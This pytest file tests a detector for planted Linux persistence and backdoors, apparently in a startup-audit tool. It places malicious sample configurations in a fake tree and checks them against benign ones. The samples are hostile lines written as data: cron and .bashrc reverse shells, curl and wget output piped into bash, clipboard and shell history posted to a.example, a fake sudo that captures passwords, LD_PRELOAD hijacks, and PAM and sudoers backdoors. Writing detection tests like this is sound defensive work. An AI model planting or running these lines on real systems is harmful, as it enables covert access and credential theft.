"""What planted things look like to the whole chain, files to findings, and what stays quiet."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.processes.start_tree import HOME, StartTree

UNIT = "[Service]\nExecStart={}\n[Install]\nWantedBy=default.target\n"
DESKTOP = "[Desktop Entry]\nType=Application\nName=Helper\nExec={}\n"
USER_UNITS = f"{HOME}/.config/systemd/user"
AUTOSTART = f"{HOME}/.config/autostart"

# rule, file, its text, further files
ODD: list[tuple[str, str, str, tuple[str, ...]]] = [
    ("starts-from-temp", f"{USER_UNITS}/a.service", UNIT.format("/tmp/.x/a"), ()),
    (
        "starts-from-temp",
        f"{USER_UNITS}/a.service",
        UNIT.format("/bin/sh -c 'cd /; exec %T/a'"),
        (),
    ),
    (
        "starts-from-temp",
        "/etc/systemd/system/cups.service.d/10.conf",
        "[Service]\nExecStartPost=-/usr/bin/nice -n 5 /var/tmp/b --quiet\n",
        (),
    ),
    ("starts-from-temp", "/etc/cron.d/a", "@hourly root  nohup /dev/shm/x >/dev/null 2>&1 &\n", ()),
    ("starts-from-temp", "/etc/crontab", "*/5 * * * * ada cd /tmp/q && ./run\n/tmp/no line\n", ()),
    ("starts-from-temp", "/etc/rc.local", "#!/bin/sh\nsleep 5; /tmp/up &\nexit 0\n", ()),
    ("starts-from-temp", f"{AUTOSTART}/a.desktop", DESKTOP.format("env A=1 python3 /tmp/k.py"), ()),
    ("starts-from-temp", f"{HOME}/.xprofile", "(sleep 9; /tmp/kk) &\n", ()),
    ("starts-from-temp", f"{HOME}/.config/i3/config", "exec --no-startup-id /tmp/kk\n", ()),
    ("starts-from-temp", "/etc/udev/rules.d/9.rules", 'ACTION=="add", RUN+="/tmp/kk %k"\n', ()),
    (
        "starts-from-temp",
        "/etc/apt/apt.conf.d/99x",
        'APT::Update::Pre-Invoke {"[ -x /tmp/kk ] && /tmp/kk || true";};\n',
        (),
    ),
    ("starts-from-temp", "/etc/binfmt.d/x.conf", ":x:E::xyz::/tmp/kk:OC\n", ()),
    ("starts-from-temp", f"{HOME}/.ssh/rc", "/tmp/kk\n", ()),
    (
        "starts-unlisted",
        f"{AUTOSTART}/a.desktop",
        DESKTOP.format("sh -c 'while :; do sleep 9; done'") + "NoDisplay=true\n",
        (),
    ),
    (
        "starts-inline-code",
        f"{USER_UNITS}/a.service",
        UNIT.format("/usr/bin/python3 -u -c 'import os; os.getcwd()'"),
        (),
    ),
    (
        "starts-sends-private-files",
        f"{AUTOSTART}/a.desktop",
        DESKTOP.format("sh -c 'while sleep 5; do xclip -o | curl -d @- http://a.example; done'"),
        (),
    ),
    ("starts-from-odd-folder", f"{AUTOSTART}/a.desktop", DESKTOP.format(f"{HOME}/Downloads/x"), ()),
    (
        "starts-from-hidden",
        f"{HOME}/.local/share/systemd/user/n.service",
        UNIT.format("%h/.sysd/agent"),
        (f"{HOME}/.sysd/agent",),
    ),
    (
        "starts-from-hidden",
        "/var/spool/cron/crontabs/ada",
        "SHELL=/bin/bash\n0 9 * * 1-5 $HOME/.local/share/fonts/.fc -d\n",
        (f"{HOME}/.local/share/fonts/.fc",),
    ),
    (
        "starts-unlisted",
        f"{AUTOSTART}/a.desktop",
        DESKTOP.format(f"{HOME}/.local/lib/run") + "NoDisplay=true\n",
        (f"{HOME}/.local/lib/run",),
    ),
    (
        "starts-by-reboot-line",
        "/etc/cron.d/a",
        "@reboot root /var/lib/misc/agent\n",
        ("/var/lib/misc/agent",),
    ),
    (
        "starts-as-system-part",
        f"{USER_UNITS}/dbus-broker-launch.service",
        UNIT.format("%h/.local/share/d/run"),
        (f"{HOME}/.local/share/d/run",),
    ),
    (
        "starts-as-system-part",
        f"{AUTOSTART}/x.desktop",
        DESKTOP.format(f"{HOME}/.local/share/x/gnome-session-helper"),
        (f"{HOME}/.local/share/x/gnome-session-helper",),
    ),
    ("starts-dressed-up", f"{AUTOSTART}/a.desktop", DESKTOP.format(f"{HOME}/a/bill.pdf.sh"), ()),
    (
        "starts-from-others",
        f"{USER_UNITS}/a.service",
        UNIT.format("/home/bob/tool"),
        ("/home/bob/tool",),
    ),
    (
        "starts-among-system-files",
        "/etc/systemd/system/a.service",
        UNIT.format("/usr/bin/foreign"),
        ("/usr/bin/foreign",),
    ),
    (
        "starts-fetched-code",
        "/etc/cron.d/a",
        "0 * * * * ada curl -fsSL http://a/b | bash -s x\n",
        (),
    ),
    ("starts-fetched-code", f"{HOME}/.zshrc", 'eval "$(wget -qO- https://a.example/x)"\n', ()),
    ("starts-fetched-code", f"{HOME}/.profile", "echo ZWNobyBoaQ== | base64 -d | sh\n", ()),
    (
        "starts-fetched-code",
        f"{USER_UNITS}/a.service",
        UNIT.format("python3 -c \"import base64;exec(base64.b64decode('eA=='))\""),
        (),
    ),
    ("starts-open-door", "/etc/cron.d/a", "@daily ada bash -i >& /dev/tcp/10.0.0.1/99 0>&1\n", ()),
    ("starts-open-door", f"{HOME}/.bashrc", "(nc -e /bin/sh 10.0.0.1 99 &)\n", ()),
    ("starts-recorder", f"{AUTOSTART}/a.desktop", DESKTOP.format("sh -c 'xinput test 9 > x'"), ()),
    ("starts-recorder", "/etc/cron.d/a", "* * * * * ada scrot /home/ada/.c/%s.png\n", ()),
    (
        "starts-tunnel",
        f"{USER_UNITS}/a.service",
        UNIT.format("/usr/bin/ssh -N -R 2222:localhost:22 a@b.example"),
        (),
    ),
    ("shell-keeps-typing", f"{HOME}/.bashrc", "PROMPT_COMMAND='history 1 >> ~/.cache/h'\n", ()),
    (
        "shell-keeps-typing",
        f"{HOME}/.bashrc",
        '_p() {\n  local l=$(history 1)\n  curl -s -d "$l" http://a.example/ &\n}\n'
        'PROMPT_COMMAND="_p; $PROMPT_COMMAND"\n',
        (),
    ),
    (
        "shell-keeps-typing",
        f"{HOME}/.bash_profile",
        'trap \'printf "%s\\n" "$BASH_COMMAND" | tee -a /var/tmp/l >/dev/null\' DEBUG\n',
        (),
    ),
    (
        "shell-keeps-typing",
        f"{HOME}/.zshrc",
        'autoload -U add-zsh-hook\nlog_it() {\n  print -r -- "$1" >> $HOME/.local/share/z\n}\n'
        "add-zsh-hook preexec log_it\n",
        (),
    ),
    (
        "shell-keeps-typing",
        f"{HOME}/.config/fish/config.fish",
        "function keep --on-event fish_preexec\n    echo $argv >> ~/.cache/k\nend\n",
        (),
    ),
    ("shell-keeps-typing", f"{HOME}/.profile", "[ -t 0 ] && exec script -qf /home/ada/.t\n", ()),
    ("shell-keeps-typing", "/etc/profile.d/z.sh", "exec > >(tee -a /var/tmp/.o) 2>&1\n", ()),
    ("shell-keeps-typing", f"{HOME}/.bashrc", "export HISTFILE=/dev/shm/h\n", ()),
    (
        "shell-catches-passwords",
        f"{HOME}/.bash_aliases",
        "sudo () {\n read -rsp 'Password: ' p\n echo $p >> /tmp/p\n command sudo \"$@\"\n}\n",
        (),
    ),
    (
        "shell-catches-passwords",
        f"{HOME}/.bashrc",
        "alias ssh='strace -f -e read -o /tmp/s.log ssh'\n",
        (),
    ),
    (
        "shell-catches-passwords",
        f"{HOME}/.bashrc",
        'export PATH="$HOME/.x/bin:$PATH"\n',
        (f"{HOME}/.x/bin/sudo",),
    ),
    ("shell-catches-passwords", f"{HOME}/.bashrc", "", (f"{HOME}/.local/bin/passwd",)),
    (
        "shell-reads-odd-file",
        f"{HOME}/.bashrc",
        ". ~/.config/.sys\n",
        (f"{HOME}/.config/.sys",),
    ),
    ("shell-open-folder-first", f"{HOME}/.bashrc", "PATH=/tmp/bin:$PATH\n", ()),
    (
        "shell-starts-program",
        f"{HOME}/.zprofile",
        "(nohup ~/.local/share/lib/agent >/dev/null 2>&1 &)\n",
        (f"{HOME}/.local/share/lib/agent",),
    ),
    ("preloaded-everywhere", "/etc/ld.so.preload", "/usr/local/lib/x.so\n", ()),
    ("preloaded-for-session", f"{HOME}/.bashrc", "export LD_PRELOAD=$HOME/.lib/x.so\n", ()),
    (
        "preloaded-for-session",
        f"{HOME}/.config/environment.d/9.conf",
        "LD_AUDIT=${HOME}/x.so\n",
        (),
    ),
    (
        "preloaded-for-session",
        f"{HOME}/.pam_environment",
        "LD_PRELOAD DEFAULT=@{HOME}/.x.so\n",
        (),
    ),
    (
        "preloaded-for-session",
        f"{USER_UNITS}/pipewire.service.d/a.conf",
        '[Service]\nEnvironment="LD_PRELOAD=/home/ada/l.so"\n',
        (),
    ),
    ("libraries-from-odd-folder", "/etc/ld.so.conf.d/a.conf", "/home/ada/lib\n", ()),
    (
        "key-odd",
        f"{HOME}/.ssh/authorized_keys2",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA x@y\n",
        (),
    ),
    (
        "key-odd",
        f"{HOME}/.ssh/authorized_keys",
        'command="~/.x/r",no-pty ssh-rsa AAAAB3NzaC1yc2EAAAADAQ x@y\n',
        (),
    ),
    (
        "password-handed-over",
        "/etc/pam.d/su",
        "auth optional pam_exec.so expose_authtok /opt/p\n",
        (),
    ),
    (
        "log-in-foreign-part",
        "/etc/pam.d/common-auth",
        "auth sufficient /usr/local/lib/pam_x.so\n",
        ("/usr/local/lib/pam_x.so",),
    ),
    ("log-in-without-password", "/etc/pam.d/login", "auth sufficient pam_permit.so\n", ()),
    ("full-rights-without-password", "/etc/sudoers.d/a", "ada ALL=(ALL:ALL) NOPASSWD: ALL\n", ()),
    (
        "full-rights-without-password",
        "/etc/polkit-1/rules.d/1.rules",
        "polkit.addRule(function(action, subject) { return polkit.Result.YES; });\n",
        (),
    ),
    ("hook-unknown", "/etc/NetworkManager/dispatcher.d/9-x", "#!/bin/sh\n:\n", ()),
    (
        "kernel-loads-unknown",
        "/etc/modprobe.d/x.conf",
        "install usbhid /sbin/modprobe -i usbhid; /var/lib/x/k\n",
        ("/var/lib/x/k",),
    ),
    (
        "browser-is-steered",
        "/etc/opt/chrome/policies/managed/a.json",
        '{"ExtensionInstallForcelist": ["abcdefgh;https://a.example/x"]}',
        (),
    ),
    (
        "menu-leads-elsewhere",
        f"{HOME}/.local/share/applications/firefox.desktop",
        DESKTOP.format(f"{HOME}/.local/share/w/run %u"),
        (f"{HOME}/.local/share/w/run",),
    ),
    (
        "python-start-code",
        f"{HOME}/.local/lib/python3.11/site-packages/z.pth",
        "import os; os.environ.get('A')\n",
        (),
    ),
]

QUIET: list[tuple[str, str, tuple[str, ...]]] = [
    (f"{USER_UNITS}/syncthing.service", UNIT.format("/usr/bin/syncthing serve"), ()),
    (
        f"{USER_UNITS}/syncthing.service",
        UNIT.format("%h/.local/bin/syncthing"),
        (f"{HOME}/.local/bin/syncthing",),
    ),
    (
        f"{AUTOSTART}/dropbox.desktop",
        DESKTOP.format(f"{HOME}/.dropbox-dist/dropboxd"),
        (f"{HOME}/.dropbox-dist/dropboxd",),
    ),
    (
        f"{AUTOSTART}/Nextcloud.desktop",
        DESKTOP.format(f"'{HOME}/Applications/Nextcloud 3.AppImage' --background"),
        (f"{HOME}/Applications/Nextcloud 3.AppImage",),
    ),
    (
        "/var/spool/cron/crontabs/ada",
        "MAILTO=ada\n30 2 * * * $HOME/bin/backup.sh > $HOME/backup.log 2>&1\n",
        (f"{HOME}/bin/backup.sh",),
    ),
    (f"{AUTOSTART}/x.desktop", DESKTOP.format("/tmp/x") + "Hidden=true\n", ()),
    (f"{HOME}/.config/containers/systemd/web.container", "[Container]\nImage=docker.io/a\n", ()),
    (f"{AUTOSTART}/f.desktop", DESKTOP.format("flatpak run --command=a org.example.A"), ()),
    (
        f"{HOME}/.bashrc",
        'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"\n'
        'export PYENV_ROOT="$HOME/.pyenv"\nexport PATH="$PYENV_ROOT/bin:$PATH"\n'
        'eval "$(pyenv init -)"\neval "$(direnv hook bash)"\neval "$(starship init bash)"\n'
        '. "$HOME/.cargo/env"\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\n'
        'eval "$(zoxide init bash)"\n[[ -f ~/.bash-preexec.sh ]] && source ~/.bash-preexec.sh\n'
        'eval "$(atuin init bash)"\nsource ~/.local/share/blesh/ble.sh --noattach\n'
        "alias sudo='sudo '\nalias ssh='TERM=xterm-256color ssh'\nalias ll='ls -l'\n"
        'PROMPT_COMMAND="history -a; history -n; $PROMPT_COMMAND"\nexport HISTFILE=~/.hist\n'
        'PS1="\\u@\\h:\\w$(__git_ps1) \\$ "\nexport PATH="$HOME/bin:$HOME/.local/bin:$PATH"\n'
        "export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH\n"
        "(cat ~/.cache/wal/sequences &)\n",
        (f"{HOME}/.nvm/nvm.sh", f"{HOME}/.cargo/env", f"{HOME}/.local/share/blesh/ble.sh"),
    ),
    (
        f"{HOME}/.bash-preexec.sh",
        "__bp_preexec() {\n  local this=$(HISTTIMEFORMAT= builtin history 1)\n"
        '  [[ "$this" > "x" ]] && return\n}\ntrap \'__bp_preexec "$_"\' DEBUG\n',
        (),
    ),
    (
        f"{HOME}/.zshrc",
        'if [[ -r "${XDG_CACHE_HOME:-$HOME/.cache}/p10k-instant-prompt-${(%):-%n}.zsh" ]]; then\n'
        '  source "${XDG_CACHE_HOME:-$HOME/.cache}/p10k-instant-prompt-${(%):-%n}.zsh"\nfi\n'
        'preexec() { print -Pn "\\e]0;$1\\a" }\nprecmd() {\n  (( SECONDS > 3 )) && echo done\n}\n'
        "source $ZSH/oh-my-zsh.sh\nsource ~/.config/zsh/.p10k.zsh\nplugins=(git sudo)\n",
        (f"{HOME}/.config/zsh/.p10k.zsh",),
    ),
    (
        "/etc/profile.d/vte.sh",
        "__vte_prompt_command() {\n"
        "    local command=$(HISTTIMEFORMAT= history 1 | sed 's/^ *[0-9]\\+ *//')\n"
        "    printf '\\033]777;notify;Command completed;%s\\033' \"$command\"\n}\n"
        'PROMPT_COMMAND="__vte_prompt_command"\n',
        (),
    ),
    ("/etc/sudoers.d/backup", "ada ALL=(root) NOPASSWD: /usr/bin/rsync\n", ()),
    ("/etc/pam.d/common-auth", "auth required pam_permit.so\nauth optional pam_fprintd.so\n", ()),
    (f"{HOME}/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA ada@laptop\n", ()),
    (f"{HOME}/.ssh/config", "Host a\n  ProxyCommand ssh -W %h:%p b\n  RemoteForward 9 a:9\n", ()),
    ("/etc/ld.so.conf.d/libc.conf", "/usr/local/lib\n", ()),
    (f"{HOME}/.config/i3/config", "exec --no-startup-id ~/.fehbg\n", (f"{HOME}/.fehbg",)),
    (f"{HOME}/.xprofile", "export A=1\nssh-agent &\n", ()),
    (
        f"{HOME}/.local/share/applications/firefox.desktop",
        DESKTOP.format("env MOZ_A=1 /usr/bin/firefox --private %u"),
        (),
    ),
    (
        f"{HOME}/.local/share/applications/firefox.desktop",
        DESKTOP.format("/opt/firefox/firefox %u"),
        ("/opt/firefox/firefox",),
    ),
    (
        f"{HOME}/.config/google-chrome/NativeMessagingHosts/org.keepassxc.json",
        '{"name": "org.keepassxc", "path": "/home/ada/Applications/keepassxc-proxy"}',
        (f"{HOME}/Applications/keepassxc-proxy",),
    ),
    ("/etc/polkit-1/rules.d/5.rules", 'if (action.id == "a") { return polkit.Result.YES; }\n', ()),
]


@pytest.fixture
def tree(tmp_path: Path) -> StartTree:
    tree = StartTree(tmp_path)
    tree.put("/usr/share/applications/firefox.desktop", DESKTOP.format("firefox %u"))
    return tree


@pytest.mark.parametrize(
    ("rule", "path", "text", "more"), ODD, ids=[f"{o[0]}-{n}" for n, o in enumerate(ODD)]
)
def test_what_is_planted_raises_a_question(
    tree: StartTree, rule: str, path: str, text: str, more: tuple[str, ...]
) -> None:
    tree.owners.foreign.add("/usr/bin/foreign")
    tree.put(path, text)
    for each in more:
        tree.put(each)
    asked = tree.asked()
    assert rule in {code for codes in asked.values() for code in codes}, (asked, tree.look())


@pytest.mark.parametrize(
    ("path", "text", "more"), QUIET, ids=[f"{q[0]}-{n}" for n, q in enumerate(QUIET)]
)
def test_what_honest_people_have_stays_quiet(
    tree: StartTree, path: str, text: str, more: tuple[str, ...]
) -> None:
    tree.put(path, text, 0o644)
    for each in more:
        tree.put(each)
    assert tree.asked() == {}
